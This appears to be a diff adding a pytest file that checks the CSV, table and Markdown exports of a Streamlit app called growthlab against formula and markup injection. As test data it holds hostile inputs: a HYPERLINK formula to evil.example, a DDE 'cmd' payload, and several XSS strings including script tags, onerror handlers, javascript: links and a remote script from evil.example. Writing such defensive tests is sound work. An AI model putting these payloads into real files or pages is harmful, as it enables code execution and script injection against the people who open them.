@@ -1,0 +1,140 @@
+"""Exports carry no live spreadsheet formulas and no live markup."""
+
+import csv
+import io as stdio
+import os
+from html.parser import HTMLParser
+
+import pytest
+from conftest import open_page
+
+from growthlab import admin, experiments, io, learnings
+from growthlab.db import open_workspace
+from growthlab.kpis import check_events
+
+FORMULA = '=HYPERLINK("http://evil.example","x")'
+TYPED = [FORMULA, "+1+2", "-3+cmd", "@SUM(A1)", "\t=1"]
+
+
+def live_cells(text: str) -> list[str]:
+    """Cells a spreadsheet would evaluate: they start like a formula and are not a number."""
+    def number(cell: str) -> bool:
+        try:
+            float(cell)
+            return True
+        except ValueError:
+            return False
+
+    return [cell for row in csv.reader(stdio.StringIO(text)) for cell in row
+            if cell.startswith(io.FORMULA_PREFIXES) and not number(cell)]
+
+
+def test_a_csv_export_neutralises_its_header_too():
+    users = [{"user_id": "u1", "signup": "2026-01-01", FORMULA: 3, "@SUM(A1)": 1}]
+    text = io.to_csv(users, list(users[0]))
+    assert live_cells(text) == []
+    assert next(csv.reader(stdio.StringIO(text)))[2] == "'" + FORMULA
+
+
+def test_displayed_tables_neutralise_typed_text_but_keep_numbers():
+    rows = io.safe_table([{"name": FORMULA, "n": -3, "share": -0.5, FORMULA: "x"}])
+    assert rows == [{"name": "'" + FORMULA, "n": -3, "share": -0.5, "'" + FORMULA: "x"}]
+
+
+@pytest.fixture
+def hostile_workspace(demo_workspace, monkeypatch):
+    """The demo with formulas typed wherever a person can type a name or a title."""
+    monkeypatch.setenv("GROWTHLAB_USER", "@SUM(A1)")
+    db = open_workspace(demo_workspace)
+    for table, name in (("squads", FORMULA), ("loops", "+1+2"), ("product_areas", "-3+cmd")):
+        admin.add_to_taxonomy(db, table, name, "\t=1" if table != "product_areas" else "",
+                              actor="@SUM(A1)")
+    squad = next(db.query("SELECT id FROM squads WHERE name = ?", [FORMULA]))["id"]
+    exp = experiments.create(db, title=FORMULA, squad_id=squad, actor="@SUM(A1)")
+    experiments.set_ice(db, exp, "=cmd|'/C calc'!A0", 5, 5, 5, actor="@SUM(A1)")
+    events = "".join(f'u{i},"{FORMULA.replace(chr(34), chr(34) * 2)}",2026-01-0{1 + i % 5}\n'
+                     for i in range(20))
+    admin.use_data_file(db, "events", f"user_id,event,timestamp\n{events}".encode(),
+                        "evil.csv", check_events, actor="@SUM(A1)")
+    admin.set_pql_rule(db, 'count("' + FORMULA.replace('"', '\\"') + '") >= 1', 30,
+                       actor="@SUM(A1)")
+    return demo_workspace, exp
+
+
+def downloads(at) -> list[str]:
+    """What Streamlit's own "Download as CSV" writes for every table on the page."""
+    return [table.value.to_csv(index=False) for table in at.dataframe]
+
+
+@pytest.mark.parametrize("page,query", [
+    ("experiments", {}), ("experiments", {"view": "review"}), ("settings", {}),
+    ("milestones", {}), ("experiment", "exp"),
+])
+def test_every_downloadable_table_parses_back_without_a_live_formula(hostile_workspace, page,
+                                                                     query):
+    path, exp = hostile_workspace
+    at = open_page(page, **({"id": str(exp)} if query == "exp" else query))
+    texts = downloads(at)
+    assert texts, "the page shows tables"
+    assert [live_cells(t) for t in texts] == [[] for _ in texts]
+    cells = [c for t in texts for row in csv.reader(stdio.StringIO(t)) for c in row]
+    assert any("HYPERLINK" in c or "calc" in c for c in cells), "the hostile text is shown"
+
+
+HOSTILE_BODY = ("Intro.\n\n<script>alert(1)</script>\n\n<img src=x onerror=alert(2)>\n\n"
+                "[click](javascript:alert(3)) and [data](data:text/html;base64,PHNjcmlwdD4=) "
+                "and [ok](https://example.com)\n\n[ref]: javascript:alert(4)\n\n"
+                "<a href=\"javascript:alert(5)\">a</a> <SCRIPT SRC=//evil.example/x.js>"
+                "</SCRIPT>\n\n[obfuscated](java&#115;cript:alert(6)) "
+                "![img](data:image/svg+xml;base64,PHN2Zz4=)")
+HOSTILE_TITLE = "Read [this](data:text/html;base64,PHNjcmlwdD4=) now"
+
+
+class Live(HTMLParser):
+    """Scripts, event handlers and non-web links in rendered HTML."""
+
+    def __init__(self):
+        super().__init__()
+        self.found = []
+
+    def handle_starttag(self, tag, attrs):
+        if tag in ("script", "iframe", "object", "embed"):
+            self.found.append(tag)
+        for name, value in attrs:
+            if name.startswith("on"):
+                self.found.append(name)
+            if name in ("href", "src") and value and not value.startswith(
+                    ("http://", "https://", "mailto:", "#")):
+                self.found.append(f"{name}={value}")
+
+
+def live_markup(markdown: str) -> list[str]:
+    """Render as a permissive Markdown viewer would (raw HTML allowed) and list what is live."""
+    from markdown_it import MarkdownIt
+
+    renderer = MarkdownIt("commonmark", {"html": True})
+    renderer.validateLink = lambda url: True  # a viewer that trusts every link
+    parser = Live()
+    parser.feed(renderer.render(markdown))
+    return parser.found
+
+
+def test_the_markdown_export_is_the_sanitised_form(tmp_path):
+    db = open_workspace(tmp_path / "w.db")
+    learnings.create(db, title=HOSTILE_TITLE, body=HOSTILE_BODY, tags="safety")
+    assert live_markup(HOSTILE_BODY), "the hostile body would be live if exported as typed"
+    text = learnings.to_markdown(learnings.listing(db))
+    assert live_markup(text) == []
+    lowered = text.lower()
+    for raw in ("<script", "onerror=", "javascript:", "](data:"):
+        assert raw not in lowered, raw
+    assert "[ok](https://example.com)" in text and "Intro." in text
+
+
+def test_a_data_link_in_a_title_is_shown_as_text(demo_workspace):
+    db = open_workspace(demo_workspace)
+    learning = learnings.create(db, title=HOSTILE_TITLE, body="Body.")
+    at = open_page("learnings", learning=str(learning))
+    shown = [h.value for h in at.subheader] + [str(p.proto.label) for p in at.get("page_link")]
+    assert shown and not any("](data:" in s for s in shown)
+    assert os.environ["GROWTHLAB_WORKSPACE"] == str(demo_workspace)
